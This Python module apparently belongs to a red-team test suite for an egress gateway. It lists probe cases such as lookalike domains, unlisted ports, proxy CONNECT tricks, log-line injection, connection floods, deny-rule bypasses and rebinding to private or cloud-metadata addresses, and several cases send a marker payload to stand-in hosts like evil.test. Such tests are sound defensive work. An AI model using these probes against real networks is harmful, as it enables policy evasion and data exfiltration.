"""The gateway and the policy: ports that rules do not name, names that only look like theirs, floods."""

from hatchway.redteam.attacks.attack import BLOCKED, INDEX, SOURCE, Attack, table

_PARTLY = (INDEX, SOURCE)
REBOUND = (
    "loopback",
    "here",
    "private",
    "aws",
    "alibaba",
    "azure",
    "slot",
    "nobody",
    "group",
    "mapped",
    "embedded",
    "local",
)
"""First labels of names that a rule allows and whose addresses no rule may lead to."""
_ALIKE = (
    "evilindex.test",
    "index.test.evil.test",
    "index-test",
    "ndex.test",
    "index.tes",
    "index.test2",
    "a.index.test",
    "w.w.index.test",
    "test",
    "index_test",
    "1ndex.test",
)

ATTACKS: tuple[Attack, ...] = (
    *table("G12", "Names that look like a rule's", {
        name.replace(".", "-").replace("_", "-u-"): f"ask(query(labels_of(M + '.{name}'))); tls(addr('{name}'), b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n', '{name.replace('_', '-')}')" for name in _ALIKE
    }),
    *table("G13", "Ports that no rule names", {
        f"port-{port}": f"tcp(addr('index.test'), {port}, B)" for port in (22, 25, 80, 853, 5432, 8080, 8443, 9090)
    }),
    *table("G13", "Ports that no rule names, as the site", {
        f"tls-{port}": f"site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test:{port}\\r\\n\\r\\n', port={port})" for port in (853, 8443)
    }),
    *table("G18", "Proxies that a client is told of", {
        "allowed-sites-port-3306": "tcp(addr('index.test'), 3306, b'GET http://evil.test/' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
        "gateway": "tcp('10.200.0.1', 8080, b'CONNECT ' + B + b'.test:443 HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n')",
    }),
    *table("G21", "HTTP in clear", {
        "evil": "tcp(addr('evil.test'), 80, b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
        "index": "tcp(addr('index.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "other-path": "tcp(addr('clear.test'), 80, b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n')",
        "other-method": "tcp(addr('clear.test'), 80, b'PUT /simple/' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\nContent-Length: 0\\r\\n\\r\\n')",
    }),
    *table("G07", "Fields for those who read logs", {
        "line-ends": "site('index.test', b'GET /upload/%0d%0a' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nUser-Agent: \\x1b[2J\\r\\n\\r\\n')",
    }),
    *table("G10", "Many connections, then one more", {
        "two-hundred": "held = []\nfor n in range(200):\n    s = socket.socket(); s.setblocking(False); s.connect_ex((addr('index.test') if not n else held[0][1], 443)); held.append((s, held[0][1] if held else addr('index.test')))\ntcp('203.0.113.9', 80, B)",
    }),
    *table("G40", "What the source tells", {
        "mark": "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 1); s.settimeout(3); tried.append('mark')\ntry: s.connect(('203.0.113.9', 80)); s.sendall(B)\nfinally: s.close()",
        "synthetic-unbound": "tcp('198.18.0.7', 80, b'GET /' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n')",
        "synthetic-of-another-rule": "tcp(addr('git.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n')",
        "listener-by-hand": "by_hand('10.200.0.1', 15001, B)",
        "listener-on-an-address": "tcp('203.0.113.9', 15001, B)",
        "dns-listener": "frame(ip4('10.200.0.1', 17, udp4('10.200.0.1', 15053, query(labels_of(M + '.evil.test')))))",
    }, (BLOCKED, SOURCE)),
    *table("G15", "What a rule denies, within what another one allows", {
        "name": "tcp(addr('denied.wild.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: denied.wild.test\\r\\n\\r\\n')",
        "name-as-host": "tcp(addr('fine.wild.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: denied.wild.test\\r\\n\\r\\n')",
        "name-in-capitals": "tcp(addr('denied.wild.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: DENIED.Wild.test\\r\\n\\r\\n')",
        "path": "tcp(addr('fine.wild.test'), 80, b'GET /simple/private/' + B + b' HTTP/1.1\\r\\nHost: fine.wild.test\\r\\n\\r\\n')",
        "path-encoded": "tcp(addr('fine.wild.test'), 80, b'GET /simple/%70rivate/' + B + b' HTTP/1.1\\r\\nHost: fine.wild.test\\r\\n\\r\\n')",
        "of-the-project": "tcp(addr('projects.wild.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: projects.wild.test\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("G26", "An allowed name at an address that is no site's", {
        one: f"try: tcp(addr('{one}.rebound.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: {one}.rebound.test\\r\\n\\r\\n')\nexcept OSError: pass\ntcp(addr('{one}.rebound.test'), facts['port'], b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: {one}.rebound.test\\r\\n\\r\\n')" for one in REBOUND
    }, _PARTLY),
)  # fmt: skip
